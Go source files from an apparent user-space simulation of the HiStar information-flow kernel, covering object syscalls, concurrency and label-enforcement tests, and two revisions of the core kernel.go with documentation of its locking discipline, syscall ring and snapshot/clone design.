		// Thread labels are not immutable; expose them only when
		// LT'ᴶ ⊑ LTᴶ.
		if tc.k.leqRaised(th.lbl, ctx.lbl) {
			st.Label = th.lbl
		} else {
			return Stat{}, ErrLabel
		}
	} else {
		st.Label = h.lbl
	}
	return st, nil
}

// ObjectSetMetadata overwrites the 64 bytes of user-defined metadata on an
// object the thread can modify.
func (tc *ThreadCall) ObjectSetMetadata(ce CEnt, md [MetadataSize]byte) error {
	ctx, err := tc.enter(scObjectSetMetadata)
	if err != nil {
		return err
	}
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return err
	}
	ls := lockOrdered(objLock{cont, false}, objLock{obj, true})
	defer ls.unlock()
	if err := verifyEntryLive(cont, obj); err != nil {
		return err
	}
	h := obj.hdr()
	if h.immutable {
		return ErrImmutable
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, effectiveLabel(obj)) {
		return ErrLabel
	}
	h.metadata = md
	h.bump()
	return nil
}

// ObjectSetImmutable irrevocably marks the object read-only.
func (tc *ThreadCall) ObjectSetImmutable(ce CEnt) error {
	ctx, err := tc.enter(scObjectSetImmutable)
	if err != nil {
		return err
	}
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return err
	}
	ls := lockOrdered(objLock{cont, false}, objLock{obj, true})
	defer ls.unlock()
	if err := verifyEntryLive(cont, obj); err != nil {
		return err
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, effectiveLabel(obj)) {
		return ErrLabel
	}
	obj.hdr().immutable = true
	obj.hdr().bump()
	return nil
}

// ObjectSetFixedQuota sets the fixed-quota flag on an object, which must be
// set before the object can be hard linked into additional containers and
// can never be cleared.
func (tc *ThreadCall) ObjectSetFixedQuota(ce CEnt) error {
	ctx, err := tc.enter(scObjectSetFixedQuota)
	if err != nil {
		return err
	}
	cont, obj, err := tc.k.peek(ctx, ce)
	if err != nil {
		return err
	}
	ls := lockOrdered(objLock{cont, false}, objLock{obj, true})
	defer ls.unlock()
	if err := verifyEntryLive(cont, obj); err != nil {
		return err
	}
	if !tc.k.canModifyT(ctx.t, ctx.lbl, effectiveLabel(obj)) {
		return ErrLabel
	}
	obj.hdr().fixedQuota = true
	obj.hdr().bump()
	return nil
}

// effectiveLabel is the label used for modify checks: gates use their gate
// label with ownership stripped to its storable form, threads their own
// label, everything else the object label.  The caller holds the object's
// lock when the object may be a thread.
func effectiveLabel(o object) label.Label {
	switch v := o.(type) {
	case *gate:
		return v.gateLabel.LowerStar()
	default:
		return o.hdr().lbl
	}
}
