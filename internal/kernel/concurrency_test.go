package kernel

import (
	"errors"
	"fmt"
	"sync"
	"testing"
	"time"

	"histar/internal/label"
)

// These tests exercise the sharded object table and the per-object locking
// discipline under real concurrency.  They are the targets of the CI
// `go test -race ./internal/kernel -run Concurrent` step; the deadlock smoke
// tests additionally guard the multi-object lock-ordering paths (gate
// invocation, cross-container links, recursive unref) with a watchdog.

// spawnWorker creates a worker thread with default privileges in the root
// container and returns its syscall context.
func spawnWorker(t *testing.T, k *Kernel, boot *ThreadCall, name string) *ThreadCall {
	t.Helper()
	tid, err := boot.ThreadCreate(k.RootContainer(), ThreadSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Descrip:   name,
	})
	if err != nil {
		t.Fatalf("ThreadCreate(%s): %v", name, err)
	}
	tc, err := k.ThreadCall(tid)
	if err != nil {
		t.Fatalf("ThreadCall(%s): %v", name, err)
	}
	return tc
}

// runConcurrentStress drives nWorkers goroutines, each with its own thread,
// through a mixed create/read/write/stat/link/unref workload against both
// private and shared containers.
func runConcurrentStress(t *testing.T, cfg Config, nWorkers, iters int) *Kernel {
	t.Helper()
	k := New(cfg)
	boot, err := k.BootThread(label.New(label.L1), label.New(label.L2), "boot")
	if err != nil {
		t.Fatal(err)
	}
	root := k.RootContainer()
	shared, err := boot.ContainerCreate(root, label.New(label.L1), "shared", 0, 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	// A shared read-mostly segment everyone hammers with reads.
	hot, err := boot.SegmentCreate(shared, label.New(label.L1), "hot", 128)
	if err != nil {
		t.Fatal(err)
	}
	hotCE := CEnt{Container: shared, Object: hot}

	var wg sync.WaitGroup
	errCh := make(chan error, nWorkers)
	for w := 0; w < nWorkers; w++ {
		tc := spawnWorker(t, k, boot, fmt.Sprintf("worker%d", w))
		wg.Add(1)
		go func(w int, tc *ThreadCall) {
			defer wg.Done()
			fail := func(op string, err error) {
				select {
				case errCh <- fmt.Errorf("worker %d %s: %w", w, op, err):
				default:
				}
			}
			priv, err := tc.ContainerCreate(root, label.New(label.L1), fmt.Sprintf("w%d", w), 0, 32<<20)
			if err != nil {
				fail("ContainerCreate", err)
				return
			}
			for i := 0; i < iters; i++ {
				// Read-heavy: hammer the shared segment and container.
				if _, err := tc.SegmentRead(hotCE, 0, 64); err != nil {
					fail("SegmentRead(hot)", err)
					return
				}
				if _, err := tc.SegmentLen(hotCE); err != nil {
					fail("SegmentLen(hot)", err)
					return
				}
				if _, err := tc.ObjectStat(hotCE); err != nil {
					fail("ObjectStat(hot)", err)
					return
				}
				if _, err := tc.ContainerList(Self(shared)); err != nil {
					fail("ContainerList(shared)", err)
					return
				}
				// Private create/write/read/unref churn.
				seg, err := tc.SegmentCreate(priv, label.New(label.L1), "scratch", 64)
				if err != nil {
					fail("SegmentCreate", err)
					return
				}
				ce := CEnt{Container: priv, Object: seg}
				if err := tc.SegmentWrite(ce, 0, []byte("payload")); err != nil {
					fail("SegmentWrite", err)
					return
				}
				if _, err := tc.SegmentRead(ce, 0, 7); err != nil {
					fail("SegmentRead", err)
					return
				}
				// Cross-shard sharing: occasionally link the private segment
				// into the shared container and unlink it again.
				if i%8 == 0 {
					if err := tc.ObjectSetFixedQuota(ce); err != nil {
						fail("ObjectSetFixedQuota", err)
						return
					}
					if err := tc.Link(shared, ce); err != nil && !errors.Is(err, ErrQuota) {
						fail("Link", err)
						return
					} else if err == nil {
						if err := tc.Unref(shared, seg); err != nil {
							fail("Unref(shared)", err)
							return
						}
					}
				}
				if err := tc.Unref(priv, seg); err != nil {
					fail("Unref(priv)", err)
					return
				}
				// Shared-container writes contend across shards.
				if i%16 == 0 {
					s2, err := tc.SegmentCreate(shared, label.New(label.L1), "shared-scratch", 16)
					if err != nil && !errors.Is(err, ErrQuota) {
						fail("SegmentCreate(shared)", err)
						return
					}
					if err == nil {
						if err := tc.Unref(shared, s2); err != nil {
							fail("Unref(shared-scratch)", err)
							return
						}
					}
				}
			}
			if err := tc.Unref(root, priv); err != nil {
				fail("Unref(root, priv)", err)
			}
		}(w, tc)
	}
	wg.Wait()
	select {
	case err := <-errCh:
		t.Fatal(err)
	default:
	}
	return k
}

func TestConcurrentSyscallStress(t *testing.T) {
	iters := 400
	if testing.Short() {
		iters = 50
	}
	k := runConcurrentStress(t, Config{Seed: 11}, 8, iters)
	if n := k.ObjectCount(); n < 2 {
		t.Fatalf("object count after stress = %d", n)
	}
}

// TestConcurrentSyscallStressSingleShard runs the same workload with the
// whole object table behind one shard lock, covering the ablation
// configuration the scaling benchmarks compare against.
func TestConcurrentSyscallStressSingleShard(t *testing.T) {
	iters := 100
	if testing.Short() {
		iters = 25
	}
	runConcurrentStress(t, Config{Seed: 12, ObjectTableShards: 1}, 4, iters)
}

// TestConcurrentLabelEnforcement churns a thread's label while other
// threads hammer observation checks, verifying that the per-thread L1 in
// front of the comparison cache never leaks a stale verdict: the secret
// stays unreadable to unprivileged threads throughout.
func TestConcurrentLabelEnforcement(t *testing.T) {
	k := New(Config{Seed: 13})
	boot, err := k.BootThread(label.New(label.L1), label.New(label.L2), "boot")
	if err != nil {
		t.Fatal(err)
	}
	root := k.RootContainer()
	c, err := boot.CategoryCreate()
	if err != nil {
		t.Fatal(err)
	}
	secret, err := boot.SegmentCreate(root, label.New(label.L1, label.P(c, label.L3)), "secret", 16)
	if err != nil {
		t.Fatal(err)
	}
	secretCE := CEnt{Container: root, Object: secret}
	plain, err := boot.SegmentCreate(root, label.New(label.L1), "plain", 16)
	if err != nil {
		t.Fatal(err)
	}
	plainCE := CEnt{Container: root, Object: plain}

	iters := 300
	if testing.Short() {
		iters = 50
	}
	var wg sync.WaitGroup
	errCh := make(chan error, 4)
	for w := 0; w < 4; w++ {
		tc := spawnWorker(t, k, boot, fmt.Sprintf("snoop%d", w))
		wg.Add(1)
		go func(w int, tc *ThreadCall) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				if _, err := tc.SegmentRead(secretCE, 0, 4); !errors.Is(err, ErrLabel) {
					select {
					case errCh <- fmt.Errorf("snoop %d read the secret (err=%v)", w, err):
					default:
					}
					return
				}
				if _, err := tc.SegmentRead(plainCE, 0, 4); err != nil {
					select {
					case errCh <- fmt.Errorf("snoop %d plain read: %w", w, err):
					default:
					}
					return
				}
				// Churn the snoop's own label (taint in a fresh category) so
				// its L1 keys keep changing while checks stay correct.
				if i%16 == 0 {
					lbl, err := tc.SelfLabel()
					if err != nil {
						return
					}
					_ = tc.SelfSetLabel(lbl.With(label.Category(1000000+uint64(w*1000+i)), label.L2))
				}
			}
		}(w, tc)
	}
	wg.Wait()
	select {
	case err := <-errCh:
		t.Fatal(err)
	default:
	}
}

// TestDeadlockSmokeLockOrdering drives the multi-object syscalls that take
// several locks at once — gate invocation (thread + local segment +
// container), cross-container links in opposing orders, quota moves, and
// recursive unrefs of nested trees — from many goroutines, under a watchdog
// that fails the test if the kernel wedges.
func TestDeadlockSmokeLockOrdering(t *testing.T) {
	k := New(Config{Seed: 14})
	boot, err := k.BootThread(label.New(label.L1), label.New(label.L2), "boot")
	if err != nil {
		t.Fatal(err)
	}
	root := k.RootContainer()
	contA, err := boot.ContainerCreate(root, label.New(label.L1), "A", 0, 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	contB, err := boot.ContainerCreate(root, label.New(label.L1), "B", 0, 64<<20)
	if err != nil {
		t.Fatal(err)
	}
	// A gate whose entry code itself issues multi-object syscalls.
	gateID, err := boot.GateCreate(contA, GateSpec{
		Label:     label.New(label.L1),
		Clearance: label.New(label.L2),
		Entry: func(call *GateCallCtx) []byte {
			seg, err := call.TC.SegmentCreate(contB, label.New(label.L1), "via-gate", 32)
			if err != nil {
				return []byte("err")
			}
			_ = call.TC.SegmentWrite(CEnt{Container: contB, Object: seg}, 0, call.Args)
			_ = call.TC.Unref(contB, seg)
			return []byte("ok")
		},
		Descrip: "worker gate",
	})
	if err != nil {
		t.Fatal(err)
	}

	iters := 200
	if testing.Short() {
		iters = 40
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		var wg sync.WaitGroup
		for w := 0; w < 6; w++ {
			tc := spawnWorker(t, k, boot, fmt.Sprintf("dl%d", w))
			wg.Add(1)
			go func(w int, tc *ThreadCall) {
				defer wg.Done()
				// Alternate link direction per worker so lock acquisition
				// would deadlock without the ascending-ID ordering.
				src, dst := contA, contB
				if w%2 == 1 {
					src, dst = contB, contA
				}
				for i := 0; i < iters; i++ {
					if _, err := tc.GateEnter(CEnt{Container: contA, Object: gateID}, GateRequest{
						Label:     label.New(label.L1),
						Clearance: label.New(label.L2),
						Verify:    label.New(label.L1),
						Args:      []byte("x"),
					}); err != nil {
						return
					}
					seg, err := tc.SegmentCreate(src, label.New(label.L1), "hop", 8)
					if err != nil {
						continue
					}
					ce := CEnt{Container: src, Object: seg}
					if err := tc.ObjectSetFixedQuota(ce); err == nil {
						if err := tc.Link(dst, ce); err == nil {
							_ = tc.Unref(dst, seg)
						}
					}
					_ = tc.QuotaMove(src, seg, 4096)
					_ = tc.Unref(src, seg)
					// Deep tree build + recursive teardown.
					if i%10 == 0 {
						top, err := tc.ContainerCreate(src, label.New(label.L1), "t0", 0, 1<<20)
						if err != nil {
							continue
						}
						cur := top
						for d := 0; d < 3; d++ {
							nxt, err := tc.ContainerCreate(cur, label.New(label.L1), "tn", 0, 1<<18)
							if err != nil {
								break
							}
							_, _ = tc.SegmentCreate(nxt, label.New(label.L1), "leaf", 16)
							cur = nxt
						}
						_ = tc.Unref(src, top)
					}
				}
			}(w, tc)
		}
		wg.Wait()
	}()
	select {
	case <-done:
	case <-time.After(2 * time.Minute):
		t.Fatal("deadlock: lock-ordering smoke test wedged")
	}
}

// TestConcurrentFutexWakeAll checks the futex shard protocol has no lost
// wakeups: every waiter blocked on the word is released once the word is
// changed and woken.
func TestConcurrentFutexWakeAll(t *testing.T) {
	k := New(Config{Seed: 15})
	boot, err := k.BootThread(label.New(label.L1), label.New(label.L2), "boot")
	if err != nil {
		t.Fatal(err)
	}
	root := k.RootContainer()
	seg, err := boot.SegmentCreate(root, label.New(label.L1), "futex", 16)
	if err != nil {
		t.Fatal(err)
	}
	ce := CEnt{Container: root, Object: seg}
	const nWaiters = 8
	var wg sync.WaitGroup
	for w := 0; w < nWaiters; w++ {
		tc := spawnWorker(t, k, boot, fmt.Sprintf("waiter%d", w))
		wg.Add(1)
		go func(tc *ThreadCall) {
			defer wg.Done()
			_ = tc.FutexWait(ce, 0, 0)
		}(tc)
	}
	// Wake in batches until everyone is gone; the word still equals the
	// expected value, so late waiters re-enqueue rather than miss.
	deadline := time.After(time.Minute)
	woken := 0
	for woken < nWaiters {
		n, err := boot.FutexWake(ce, 0, nWaiters)
		if err != nil {
			t.Fatal(err)
		}
		woken += n
		select {
		case <-deadline:
			t.Fatalf("only %d of %d waiters woken", woken, nWaiters)
		default:
		}
	}
	wg.Wait()
}

// TestConcurrentSyscallCounters checks the striped counters: per-syscall
// counts merge to the total and each thread's own counter is exact.
func TestConcurrentSyscallCounters(t *testing.T) {
	k := New(Config{Seed: 16})
	boot, err := k.BootThread(label.New(label.L1), label.New(label.L2), "boot")
	if err != nil {
		t.Fatal(err)
	}
	root := k.RootContainer()
	seg, err := boot.SegmentCreate(root, label.New(label.L1), "ctr", 8)
	if err != nil {
		t.Fatal(err)
	}
	ce := CEnt{Container: root, Object: seg}
	const nWorkers, perWorker = 6, 200
	tcs := make([]*ThreadCall, nWorkers)
	for w := range tcs {
		tcs[w] = spawnWorker(t, k, boot, fmt.Sprintf("ctr%d", w))
	}
	k.ResetSyscallCounts()
	var wg sync.WaitGroup
	for _, tc := range tcs {
		wg.Add(1)
		go func(tc *ThreadCall) {
			defer wg.Done()
			for i := 0; i < perWorker; i++ {
				if _, err := tc.SegmentRead(ce, 0, 8); err != nil {
					return
				}
			}
		}(tc)
	}
	wg.Wait()
	counts := k.SyscallCounts()
	if got := counts["segment_read"]; got != nWorkers*perWorker {
		t.Errorf("segment_read count = %d, want %d", got, nWorkers*perWorker)
	}
	var sum uint64
	for _, n := range counts {
		sum += n
	}
	if total := k.SyscallTotal(); total != sum {
		t.Errorf("SyscallTotal = %d, sum of per-syscall counts = %d", total, sum)
	}
	for w, tc := range tcs {
		if got := tc.SyscallsIssued(); got < perWorker {
			t.Errorf("worker %d SyscallsIssued = %d, want ≥ %d", w, got, perWorker)
		}
	}
}
