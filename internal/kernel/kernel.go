// Package kernel implements the HiStar kernel object model and system-call
// interface (Zeldovich et al., OSDI 2006, Sections 3 and 4) as a user-space
// simulation.  The six kernel object types — segments, threads, address
// spaces, gates, containers, and devices — are provided with the exact
// information-flow checks the paper specifies; "hardware" concerns (the MMU,
// the disk, the NIC) are modelled by sibling packages.
//
// The central property the interface maintains (Section 3):
//
//	The contents of object A can only affect object B if, for every
//	category c in which A is more tainted than B, a thread owning c takes
//	part in the process.
//
// Every system call is a method on ThreadCall, the per-thread syscall
// context, so each call is checked against the invoking thread's label and
// clearance.
package kernel

import (
	"fmt"
	"sync"
	"sync/atomic"

	"histar/internal/label"
)

// Config controls optional kernel behaviour.
type Config struct {
	// Seed keys the object-ID and category generators so simulations are
	// reproducible.
	Seed uint64
	// DisableLabelCache turns off memoization of label comparisons between
	// immutable labels (the Section 4 optimization); used by the ablation
	// benchmarks.
	DisableLabelCache bool
	// RootQuota is the quota of the root container; 0 means infinite.
	RootQuota uint64
}

// Kernel is a single simulated HiStar machine: an object table rooted at the
// root container plus the generators and caches the kernel maintains.
type Kernel struct {
	mu      sync.Mutex
	objects map[ID]object
	rootID  ID

	ids  *label.Allocator
	cats *label.Allocator

	labelCache    *label.Cache
	useLabelCache bool

	futexes map[futexKey]*futexQueue

	syscalls   map[string]uint64
	syscallsMu sync.Mutex
	totalCalls atomic.Uint64

	// netDevices lists created device object IDs, for bootstrap plumbing.
	netDevices []ID
}

// New boots a kernel: it creates the object table and the root container.
// The root container is labeled {1} and has an infinite quota unless
// cfg.RootQuota says otherwise.
func New(cfg Config) *Kernel {
	k := &Kernel{
		objects:       make(map[ID]object),
		ids:           label.NewAllocator(cfg.Seed ^ 0x9e3779b97f4a7c15),
		cats:          label.NewAllocator(cfg.Seed),
		labelCache:    label.NewCache(0),
		useLabelCache: !cfg.DisableLabelCache,
		futexes:       make(map[futexKey]*futexQueue),
		syscalls:      make(map[string]uint64),
	}
	rootQuota := cfg.RootQuota
	if rootQuota == 0 {
		rootQuota = QuotaInfinite
	}
	root := &container{
		header: header{
			id:      k.newID(),
			objType: ObjContainer,
			lbl:     label.New(label.L1),
			quota:   rootQuota,
			descrip: "root container",
			refs:    1, // the root container is always referenced
		},
		parent:  NilID,
		entries: make(map[ID]bool),
	}
	root.usage = root.footprint()
	k.objects[root.id] = root
	k.rootID = root.id
	return k
}

// RootContainer returns the object ID of the root container.
func (k *Kernel) RootContainer() ID { return k.rootID }

// CategoryAllocator exposes the kernel's category namer for formatting
// labels in diagnostics; it does not grant any privilege.
func (k *Kernel) CategoryAllocator() *label.Allocator { return k.cats }

// newID allocates a fresh 61-bit object ID.
func (k *Kernel) newID() ID { return ID(k.ids.Alloc()) }

// count records a syscall invocation for the statistics the evaluation
// reports (e.g. 317 syscalls per fork/exec, 127 per spawn).
func (k *Kernel) count(name string, t *thread) {
	k.totalCalls.Add(1)
	if t != nil {
		t.syscallCount++
	}
	k.syscallsMu.Lock()
	k.syscalls[name]++
	k.syscallsMu.Unlock()
}

// SyscallTotal returns the total number of system calls executed since boot.
func (k *Kernel) SyscallTotal() uint64 { return k.totalCalls.Load() }

// SyscallCounts returns a copy of the per-syscall invocation counts.
func (k *Kernel) SyscallCounts() map[string]uint64 {
	k.syscallsMu.Lock()
	defer k.syscallsMu.Unlock()
	out := make(map[string]uint64, len(k.syscalls))
	for n, c := range k.syscalls {
		out[n] = c
	}
	return out
}

// ResetSyscallCounts zeroes the syscall statistics (benchmark plumbing).
func (k *Kernel) ResetSyscallCounts() {
	k.syscallsMu.Lock()
	k.syscalls = make(map[string]uint64)
	k.syscallsMu.Unlock()
	k.totalCalls.Store(0)
}

// LabelCacheStats returns hit/miss/eviction counts of the immutable-label
// comparison cache, totalled and per shard.
func (k *Kernel) LabelCacheStats() label.CacheStats { return k.labelCache.Stats() }

// leq applies the ⊑ check, through the comparison cache when enabled.
func (k *Kernel) leq(a, b label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.Leq(a, b)
	}
	return a.Leq(b)
}

// leqRaised applies aᴶ ⊑ bᴶ; the cached path keys on the precomputed raised
// fingerprints so neither superscript-J form is materialized on a hit.
func (k *Kernel) leqRaised(a, b label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.LeqRaised(a, b)
	}
	return a.RaiseJ().Leq(b.RaiseJ())
}

func (k *Kernel) canObserve(thr, obj label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.CanObserve(thr, obj)
	}
	return label.CanObserve(thr, obj)
}

func (k *Kernel) canModify(thr, obj label.Label) bool {
	if k.useLabelCache {
		return k.labelCache.CanModify(thr, obj)
	}
	return label.CanModify(thr, obj)
}

// lookup returns the live object with the given ID.
func (k *Kernel) lookup(id ID) (object, error) {
	o, ok := k.objects[id]
	if !ok || o.hdr().dead {
		return nil, ErrNoSuchObject
	}
	return o, nil
}

func (k *Kernel) lookupContainer(id ID) (*container, error) {
	o, err := k.lookup(id)
	if err != nil {
		return nil, err
	}
	c, ok := o.(*container)
	if !ok {
		return nil, ErrNotContainer
	}
	return c, nil
}

// resolve validates a container entry 〈D,O〉 for a thread with label lt:
// D must contain O (or be O itself, since every container contains itself)
// and the thread must be able to read D (LD ⊑ LTᴶ).
func (k *Kernel) resolve(lt label.Label, ce CEnt) (object, error) {
	cont, err := k.lookupContainer(ce.Container)
	if err != nil {
		return nil, err
	}
	if !k.canObserve(lt, cont.lbl) {
		return nil, ErrLabel
	}
	if ce.Object == ce.Container {
		return cont, nil
	}
	if !cont.entries[ce.Object] {
		return nil, ErrNoSuchObject
	}
	return k.lookup(ce.Object)
}

// ThreadCall is the per-thread system-call context.  All system calls are
// methods on ThreadCall so that every operation is attributed to, and
// checked against, a specific thread.
type ThreadCall struct {
	k   *Kernel
	tid ID
}

// ThreadCall returns the syscall context for an existing thread.  In real
// HiStar the binding of executing code to its thread object is enforced by
// the hardware; in this simulation the caller that created the thread is
// trusted to hand the context only to that thread's code.
func (k *Kernel) ThreadCall(tid ID) (*ThreadCall, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	o, err := k.lookup(tid)
	if err != nil {
		return nil, err
	}
	if _, ok := o.(*thread); !ok {
		return nil, ErrWrongType
	}
	return &ThreadCall{k: k, tid: tid}, nil
}

// Kernel returns the kernel this syscall context belongs to.
func (tc *ThreadCall) Kernel() *Kernel { return tc.k }

// ID returns the invoking thread's object ID.
func (tc *ThreadCall) ID() ID { return tc.tid }

// self returns the thread object; the kernel lock must be held.
func (tc *ThreadCall) self() (*thread, error) {
	o, err := tc.k.lookup(tc.tid)
	if err != nil {
		return nil, ErrHalted
	}
	t, ok := o.(*thread)
	if !ok {
		return nil, ErrWrongType
	}
	if t.halted {
		return nil, ErrHalted
	}
	return t, nil
}

// SyscallsIssued returns how many system calls this thread has issued.
func (tc *ThreadCall) SyscallsIssued() uint64 {
	tc.k.mu.Lock()
	defer tc.k.mu.Unlock()
	t, err := tc.self()
	if err != nil {
		return 0
	}
	return t.syscallCount
}

// ---------------------------------------------------------------------------
// Bootstrap: creating the first thread.
// ---------------------------------------------------------------------------

// BootThread creates the initial thread directly in the root container with
// the given label and clearance.  It bypasses the usual "creator must be a
// thread" rule exactly once, the way the real kernel's bootstrap code hands
// control to the first user-level thread.
func (k *Kernel) BootThread(lbl, clearance label.Label, descrip string) (*ThreadCall, error) {
	if !label.ValidThreadLabel(lbl) || !label.ValidClearance(clearance) {
		return nil, ErrInvalid
	}
	if !lbl.Leq(clearance) {
		return nil, ErrLabel
	}
	k.mu.Lock()
	defer k.mu.Unlock()
	root, err := k.lookupContainer(k.rootID)
	if err != nil {
		return nil, err
	}
	t := &thread{
		header: header{
			id:      k.newID(),
			objType: ObjThread,
			lbl:     label.Intern(lbl),
			quota:   1 << 20,
			descrip: truncDescrip(descrip),
		},
		clearance: label.Intern(clearance),
		alertCh:   make(chan struct{}, 1),
	}
	t.localSegment = &segment{
		header: header{
			id:      k.newID(),
			objType: ObjSegment,
			lbl:     label.Intern(lbl.LowerStar()),
			quota:   localSegmentSize,
			descrip: "thread-local segment",
		},
		data:             make([]byte, localSegmentSize),
		threadLocalOwner: t.id,
	}
	if err := k.chargeLocked(root, t.quota); err != nil {
		return nil, err
	}
	t.usage = t.footprint()
	k.objects[t.id] = t
	root.link(t.id)
	t.refs = 1
	return &ThreadCall{k: k, tid: t.id}, nil
}

// localSegmentSize is one page, as in the paper.
const localSegmentSize = 4096

func truncDescrip(s string) string {
	if len(s) > DescripSize {
		return s[:DescripSize]
	}
	return s
}

// chargeLocked charges q bytes of quota to container c, failing if the
// container's quota would be exceeded.  The kernel lock must be held.
func (k *Kernel) chargeLocked(c *container, q uint64) error {
	if c.quota == QuotaInfinite {
		c.usage += q
		return nil
	}
	if q == QuotaInfinite {
		return ErrQuota
	}
	if c.usage+q > c.quota {
		return ErrQuota
	}
	c.usage += q
	return nil
}

func (k *Kernel) refundLocked(c *container, q uint64) {
	if q == QuotaInfinite {
		return
	}
	if c.usage >= q {
		c.usage -= q
	} else {
		c.usage = 0
	}
}

// ObjectCount returns the number of live kernel objects (for tests and the
// resource-exhaustion experiments).
func (k *Kernel) ObjectCount() int {
	k.mu.Lock()
	defer k.mu.Unlock()
	n := 0
	for _, o := range k.objects {
		if !o.hdr().dead {
			n++
		}
	}
	return n
}

// Describe returns a debugging one-liner for an object, without any label
// checks; intended for tests and the administrative tooling that runs with
// write permission on the root container.
func (k *Kernel) Describe(id ID) (string, error) {
	k.mu.Lock()
	defer k.mu.Unlock()
	o, err := k.lookup(id)
	if err != nil {
		return "", err
	}
	h := o.hdr()
	return fmt.Sprintf("%s %s %q label=%s quota=%d usage=%d refs=%d",
		h.id, h.objType, h.descrip, h.lbl.Format(k.cats), h.quota, h.usage, h.refs), nil
}
