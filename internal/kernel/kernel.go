// Package kernel implements the HiStar kernel object model and system-call
// interface (Zeldovich et al., OSDI 2006, Sections 3 and 4) as a user-space
// simulation.  The six kernel object types — segments, threads, address
// spaces, gates, containers, and devices — are provided with the exact
// information-flow checks the paper specifies; "hardware" concerns (the MMU,
// the disk, the NIC) are modelled by sibling packages.
//
// The central property the interface maintains (Section 3):
//
//	The contents of object A can only affect object B if, for every
//	category c in which A is more tainted than B, a thread owning c takes
//	part in the process.
//
// Every system call is a method on ThreadCall, the per-thread syscall
// context, so each call is checked against the invoking thread's label and
// clearance.  Threads that issue many calls can batch them through a
// syscall ring (NewRing): one kernel entry executes a whole submission
// queue, including ring-native gate calls via OpGateEnter — the full
// Section 3.5 transfer plus a chained read checked against the post-entry
// label.  The ring's protocol and ordering rules are documented in ring.go.
//
// # Locking discipline
//
// System calls run concurrently; there is no global kernel lock.  The object
// table is sharded by object-ID bits, each shard holding a map guarded by its
// own sync.RWMutex, and every object additionally carries a per-object
// sync.RWMutex in its header guarding the object's mutable state.  The rules,
// in order of lock acquisition:
//
//  1. A syscall first snapshots the invoking thread's state (label,
//     clearance, address space, liveness) under the thread's read lock and
//     releases it; all subsequent checks use the snapshot, so a syscall's
//     label checks are evaluated against the thread's label as of syscall
//     entry, exactly as in the real kernel.
//  2. Object resolution (shard map lookups and label checks against
//     *immutable* object labels) happens with no object locks held.
//  3. The objects a syscall touches are then locked together in ascending
//     object-ID order — read locks for observation, write locks for
//     mutation — and container membership and object liveness are
//     re-verified under those locks before any mutation.
//  4. Shard locks are only ever acquired with either no object locks held
//     (lookup) or nested inside object locks (insert on create, delete on
//     deallocate); an object lock is never acquired while a shard lock is
//     held.
//  5. Futex-table shard locks nest inside object locks and never the other
//     way around.  The label cache, interning table, and allocators are
//     self-synchronized leaves.
//
// Recursive deallocation (unreferencing a container subtree) never holds two
// tree levels' locks at once: an object that drops to zero references is
// marked dead and unlinked from the table under its own write lock, its
// children are collected into a worklist, and the worklist is drained one
// object at a time after the triggering syscall has released its locks.
//
// # Syscall ring
//
// Besides direct calls, a thread may batch system calls through a Ring
// (ring.go): Submit queues entries, Wait snapshots the thread once, executes
// every entry through the same resolve/check/lockOrdered paths, and returns
// per-entry completions in submission order.  Chains (the Chain flag) fix
// intra-chain order with skip-on-error; independent chains may be reordered
// by target object ID so same-object entries share one lock acquisition.  A
// run holds at most one lockOrdered set at a time and OpSync dispatch takes
// no object locks, so the ring introduces no new lock-order edges.  Wait
// records one ring_submit syscall per batch and each entry records its own
// syscall (OpSync as ring_sync), so batched and direct traffic stay
// distinguishable in SyscallCounts; RingStats aggregates depth, coalescing,
// and sync-group fan-in.
//
// # Container snapshot and clone (golden images)
//
// ContainerSnapshot captures a container subtree — containers, segments,
// gates, address spaces — as an immutable in-kernel snapshot under a
// deterministic lineage ID, freezing every captured segment's buffer for
// copy-on-write (snapshot.go); OpSnapshot/OpClone make both operations
// ring-native so spawns batch.  ContainerClone materializes a snapshot
// under a destination container in O(metadata) with these ID-remap rules:
// every captured object gets a fresh object ID; intra-subtree references
// (container links, gate entry objects, address-space segment mappings)
// are rewritten through the old→new map; references that leave the subtree
// keep their original IDs; and a caller-supplied category remap rewrites
// labels, clearances, and gate verify labels pair-by-pair — the
// golden-image pattern maps a template user's ur/uw categories to the
// spawning user's, with CanAllocate enforced per remapped label, so a
// clone can never mint authority its creator could not hold.  Segment data
// is never copied at clone time: clone and master share the frozen buffer
// until either side's first write breaks COW for that segment alone.  When
// a persistent store is attached, a SnapshotSink mirrors snapshots as
// refcounted store bundles and validates lineage (CRC walk) before every
// clone, so restoring from a rotted image fails typed instead of fanning
// bad bytes into every sandbox.  The golden-spawn flow end to end:
// unixlib.BakeGolden builds and snapshots a template sandbox once;
// webd's session cache, on a cold login, issues one ContainerClone into
// the worker's process container (sharing all read-only data COW) instead
// of rebuilding the sandbox from scratch.
//
// Read-mostly syscalls (segment reads, resolution, stat, list) take only
// read locks, so they proceed in parallel across — and within — shards.
// Mutating syscalls take write locks only on the objects they mutate.
// Threads own a small lock-free L1 in front of the sharded label-comparison
// cache (thread labels are interned and pointer-stable, and the L1 is keyed
// by both labels' fingerprints, so entries self-invalidate when the thread's
// label changes); a hot canObserve check touches no mutex at all.
package kernel

import (
	"fmt"
	"math/bits"
	"sync"

	"histar/internal/label"
)

// Config controls optional kernel behaviour.
type Config struct {
	// Seed keys the object-ID and category generators so simulations are
	// reproducible.
	Seed uint64
	// DisableLabelCache turns off memoization of label comparisons between
	// immutable labels (the Section 4 optimization); used by the ablation
	// benchmarks.
	DisableLabelCache bool
	// LabelCacheEntries bounds the label comparison cache (0 picks the
	// default of 65536).  Workloads with very large live category
	// populations — the many-user web harness — size this up so steady-state
	// comparisons stay cached instead of churning through evictions.
	LabelCacheEntries int
	// RootQuota is the quota of the root container; 0 means infinite.
	RootQuota uint64
	// ObjectTableShards overrides the number of object-table shards (rounded
	// down to a power of two).  0 picks the default; 1 forces the whole
	// table through a single shard lock, used by the scaling ablation
	// benchmarks.
